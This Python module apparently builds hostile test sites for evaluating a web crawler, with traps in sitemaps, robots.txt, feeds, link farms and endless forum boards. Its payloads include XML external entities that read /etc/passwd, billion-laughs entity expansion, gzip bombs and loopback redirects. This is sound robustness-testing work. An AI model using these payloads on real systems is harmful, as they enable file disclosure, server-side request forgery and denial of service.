"""What lists addresses and lies about them: sitemaps, robots.txt, link farms, feeds, boards.

Feeds and boards are read by the crawls of the channels: `FEEDS` and `BOARDS` are sources, the home
page does not link to them.
"""

from __future__ import annotations

import gzip
from functools import cache
from typing import TYPE_CHECKING

from evaluation.hostile.content_traps import gzip_bomb
from evaluation.hostile.trap import A_WHILE, Trap, Visit, endless, head, html, raw
from samples.chance import number
from samples.response import Response, not_found, redirect

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

_XML = "application/xml; charset=utf-8"
_TEXT = "text/plain; charset=utf-8"
_MOST_LISTED = 50_000
_LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "手机">' for n in range(10)
)


def _site(name: str) -> str:
    return f"http://{name}.hostile.example/"


def _xml(text: str) -> Response:
    return Response(200, _XML, f'<?xml version="1.0" encoding="utf-8"?>{text}'.encode())


def _urls(urls: Iterable[str]) -> Response:
    listed = "".join(f"<url><loc>{url}</loc></url>" for url in urls)
    return _xml(f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{listed}</urlset>')


def _index(urls: Iterable[str]) -> Response:
    listed = "".join(f"<sitemap><loc>{url}</loc></sitemap>" for url in urls)
    return _xml(f"<sitemapindex>{listed}</sitemapindex>")


# Sitemaps: each on a host of its own, whose robots.txt tells of it.


def _sitemap_trap(
    name: str, sitemap: Callable[[str, str], Response], file: str = "sitemap.xml", robots: str = ""
) -> Trap:
    """`sitemap` answers an address of the host: its start, and what follows it."""
    start = _site(f"sitemap-{name}")
    told = f"User-agent: *\nAllow: /\n{robots or f'Sitemap: {start}{file}'}\n"

    def answer(visit: Visit) -> Response:
        match visit.rest:
            case "robots.txt":
                return Response(200, _TEXT, told.encode())
            case "":
                return html(f"网站地图 {name}")
        return sitemap(start, visit.rest)

    return Trap(f"sitemap-{name}", start, "", answer, must_register=False)


def _missing(_start: str, rest: str) -> Response:
    return not_found(rest)


def _listing(make: Callable[[str], Response]) -> Callable[[str, str], Response]:
    """One sitemap; every page it tells of is there, and all are alike."""

    @cache
    def listed(start: str) -> Response:
        return make(start)

    return lambda start, rest: listed(start) if "sitemap" in rest else html("手机报价")


def _in_itself(start: str, _rest: str) -> Response:
    return _index([f"{start}sitemap.xml"] * 100)


def _in_others(start: str, rest: str) -> Response:
    return _index(f"{start}sitemap-{number(rest, str(n))}.xml" for n in range(50))


def _bomb(_start: str, _rest: str) -> Response:
    return Response(200, "application/gzip", gzip_bomb())


def _packed_many(start: str) -> Response:
    plain = _urls(f"{start}phone/{n}.html" for n in range(_MOST_LISTED))
    return Response(200, "application/gzip", gzip.compress(plain.body, mtime=0))


def _laughs(_start: str, _rest: str) -> Response:
    return _xml(f"<!DOCTYPE urlset [{_LAUGHS}]><urlset><url><loc>http://&l9;/</loc></url></urlset>")


SITEMAPS = (
    _sitemap_trap("index-of-itself", _in_itself),
    _sitemap_trap("index-of-indexes", _in_others),
    _sitemap_trap(
        "many", _listing(lambda it: _urls(f"{it}p/{n}.html" for n in range(_MOST_LISTED)))
    ),
    _sitemap_trap("many-packed", _listing(_packed_many), "sitemap.xml.gz"),
    _sitemap_trap("bomb", _bomb, "sitemap.xml.gz"),
    _sitemap_trap("entities", _laughs),
    _sitemap_trap(
        "external-entity",
        lambda _start, _rest: _xml(
            '<!DOCTYPE urlset [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            "<urlset><url><loc>http://evil.hostile.example/&x;</loc></url></urlset>"
        ),
    ),
    _sitemap_trap(
        "elsewhere",
        _listing(lambda _: _urls(f"http://www.other{n}.example/" for n in range(_MOST_LISTED))),
    ),
    _sitemap_trap(
        "loopback", _listing(lambda _: _urls(f"http://127.0.0.{n}/" for n in range(1, 255)))
    ),
    _sitemap_trap(
        "long", _listing(lambda it: _urls(f"{it}{'a' * 2000}/{n}" for n in range(2_000)))
    ),
    _sitemap_trap(
        "words",
        _listing(lambda it: _urls(f"{it}{number('word', str(n)):x}.html" for n in range(5_000))),
    ),
    _sitemap_trap(
        "open",
        lambda _start, _rest: Response(200, _XML, b"<urlset>" + b"<url><loc " * 200_000),
    ),
    _sitemap_trap("endless", lambda _s, _r: endless(head(content_type=_XML), b"<url><loc>x" * 999)),
    _sitemap_trap(
        "announced-often",
        _missing,
        robots="\n".join(
            f"Sitemap: {_site('sitemap-announced-often')}sitemap{n}.xml" for n in range(5_000)
        ),
    ),
)


# robots.txt that is dear to read, or to obey.


def _robots_trap(name: str, robots: Response) -> Trap:
    def answer(visit: Visit) -> Response:
        if visit.rest == "robots.txt":
            return robots
        links = (f'<a href="/{"a" * n}b.html">手机{n}</a>' for n in range(1, 60, 10))
        return html(name, *links) if not visit.rest else html(f"{name} {visit.rest}")

    return Trap(f"robots-{name}", _site(f"robots-{name}"), "robots", answer, must_register=False)


def _rules(*lines: str) -> Response:
    return Response(200, _TEXT, "\n".join(("User-agent: *", *lines, "")).encode())


ROBOTS = (
    _robots_trap("wildcards", _rules(*("Disallow: /" + "*a" * 40 + "*c$",) * 200)),
    _robots_trap("many-rules", _rules(*(f"Disallow: /{n:x}/*{n}" for n in range(25_000)))),
    _robots_trap("many-agents", Response(200, _TEXT, b"User-agent: *\n" * 30_000)),
    _robots_trap("long-line", _rules("Disallow: /" + "a" * 400_000)),
    _robots_trap("strange-delay", _rules("Crawl-delay: nan", "Request-rate: -1/0")),
    _robots_trap("binary", Response(200, _TEXT, bytes(range(256)) * 1_000)),
    _robots_trap("bomb", raw(head("Content-Encoding: gzip", content_type=_TEXT), gzip_bomb())),
    _robots_trap("loopback", redirect("http://127.0.0.1:1/robots.txt")),
    _robots_trap("loop", redirect(f"{_site('robots-loop')}robots.txt")),
    _robots_trap("slow", endless(head(content_type=_TEXT), b"#", A_WHILE)),
)


# Link farms: hosts and pages without end, each with something new.


def _links(urls: Iterable[str]) -> str:
    return "".join(f'<a href="{url}">手机报价</a>\n' for url in urls)


FARM = "http://*.link-farm.example/"
"""Of a host with a star any name will do."""


def _farm(visit: Visit) -> Response:
    if visit.url.endswith("/robots.txt"):
        return not_found(visit.url)
    others = (f"http://h{number(visit.url, str(n)) % 10**9}.link-farm.example/" for n in range(30))
    return html(f"友情链接 {number(visit.url)}", _links(others))


def _catalogue(visit: Visit) -> Response:
    """Products without end, each with a table of its own: what a catalogue looks like, too."""
    if visit.rest == "robots.txt":
        return not_found(visit.url)
    seed = number(visit.url)
    rows = {
        "手机名": f"假机 {seed:x}",
        "品牌": "假机",
        "电池容量": f"{seed % 4000 + 1000}mAh",
        "屏幕尺寸": f"{seed % 30 / 10 + 4:.1f}英寸",
    }
    table = "".join(f"<tr><th>{name}</th><td>{value}</td></tr>" for name, value in rows.items())
    further = (f"/p{number(visit.url, str(n)) % 10**12}.html" for n in range(20))
    return html(rows["手机名"], f"<table>{table}</table>", _links(further))


def _soft_missing(visit: Visit) -> Response:
    """Whatever is asked for is there."""
    if visit.rest == "robots.txt":
        return not_found(visit.url)
    return html("手机报价", _links(f"{visit.rest}x{n}/" for n in range(5)))


def _spellings(visit: Visit) -> Response:
    """One page under every spelling of its address."""
    if visit.rest == "robots.txt":
        return not_found(visit.url)
    start = _site("spellings")
    path = visit.rest.rpartition("/")[2][:20] or "phone"
    others = (
        f"{start}%{ord(path[0]):02x}{path[1:]}",
        f"{start}{path.swapcase()}",
        f"{start}./x/../{path}",
        f"{start}/{path}",
        f"{start}{path};jsessionid={number(visit.url):x}",
        f"{start}{path}?PHPSESSID={number(visit.url):x}",
        f"{start}{path}?utm_source={number(visit.url):x}",
        f"{start}{path}?",
        f"{start}{path}#!{number(visit.url):x}",
        f"{start.replace('http://', 'HTTP://').replace('example/', 'EXAMPLE.:80/')}{path}",
    )
    return html("手机报价", _links(others))


FARMS = (
    Trap("link-farm", FARM, "trap", _farm, must_register=False),
    Trap(
        "endless-products",
        "http://www.false-shop.example/",
        "trap",
        _catalogue,
        must_register=False,
    ),
    Trap("nothing-missing", _site("soft"), "trap", _soft_missing, must_register=False),
    Trap("spellings", _site("spellings"), "trap", _spellings, must_register=False),
)
FARM_SEEDS = ("http://www.link-farm.example/", FARMS[1].url)


# Feeds and boards: sources of the channels.


def _entry(n: int, title: str = "手机") -> str:
    link = f"{_site('feeds')}article/{n}.html"
    return f"<item><title>{title}{n}</title><link>{link}</link></item>"


def _rss(items: str, doctype: str = "") -> Response:
    return _xml(f"{doctype}<rss version='2.0'><channel><title>坏</title>{items}</channel></rss>")


_FEEDS: dict[str, Callable[[], Response]] = {
    "entries-many": lambda: _rss("".join(map(_entry, range(50_000)))),
    "entities": lambda: _rss("<item><title>&l9;</title></item>", f"<!DOCTYPE rss [{_LAUGHS}]>"),
    "external-entity": lambda: _rss(
        "<item><title>&x;</title></item>",
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    ),
    "deep": lambda: _rss("<item><title>" + "<b>" * 50_000),
    "title-long": lambda: _rss(_entry(1, "手" * 1_000_000)),
    "broken": lambda: Response(200, _XML, b"<rss><channel><item><title>\xff\x00" * 20_000),
    "json-deep": lambda: Response(200, "application/feed+json", b'{"items":[' * 50_000),
    "json-many": lambda: Response(
        200,
        "application/feed+json",
        (
            '{"version":"https://jsonfeed.org/version/1.1","items":['
            + ",".join(f'{{"url":"{_site("feeds")}a/{n}"}}' for n in range(50_000))
            + "]}"
        ).encode(),
    ),
    "bomb": lambda: raw(head("Content-Encoding: gzip", content_type=_XML), gzip_bomb()),
    "endless": lambda: endless(head(content_type=_XML), (_entry(1) * 500).encode()),
    "loopback": lambda: redirect("http://127.0.0.1:1/rss.xml"),
}


def _feed_trap(name: str, make: Callable[[], Response]) -> Trap:
    made = cache(make)
    return Trap(
        f"feed-{name}",
        f"{_site('feeds')}{name}/",
        "",
        lambda visit: not_found(visit.url) if visit.rest else made(),
        must_register=False,
    )


FEEDS = tuple(_feed_trap(name, make) for name, make in _FEEDS.items())


def _post(n: int, text: str) -> str:
    return (
        f'<div class="post"><span class="author">用户{n}</span>'
        f'<span class="time">2009-07-01 12:{n % 60:02}</span><div class="text">{text}</div></div>'
    )


_THREADS: dict[str, Callable[[int], str]] = {
    "posts-many": lambda _: "".join(_post(n, f"第{n}楼：手机很好用。") for n in range(20_000)),
    "quotes-nested": lambda _: _post(1, "<blockquote>引用：" * 20_000 + "手机"),
    "post-long": lambda _: _post(1, "手机" * 1_000_000),
    "times-many": lambda _: "".join(_post(n, "2009-07-01 12:00 " * 500) for n in range(100)),
    "alike": lambda n: "".join(_post(m, f"手机{n}") for m in range(5_000)),
}


def _board_trap(name: str, make: Callable[[int], str]) -> Trap:
    """A board without last page, whose threads have none either."""
    start = f"{_site('boards')}{name}/"

    def answer(visit: Visit) -> Response:
        kind, _, rest = visit.rest.partition("-")
        page = int(rest) if rest.isdecimal() and len(rest) < 12 else 1
        further = (f"{start}{kind or 'board'}-{page + step}" for step in (1, 2, 10))
        if kind == "thread":
            return html(f"帖子 {name}", make(page), _links(further))
        threads = (
            f'<li><a href="{start}thread-{page * 10 + n}">手机{page}{n}</a></li>' for n in range(10)
        )
        return html(f"版块 {name}", f"<ul>{''.join(threads)}</ul>", _links(further))

    return Trap(f"board-{name}", start, "", answer, must_register=False)


BOARDS = tuple(_board_trap(name, make) for name, make in _THREADS.items())
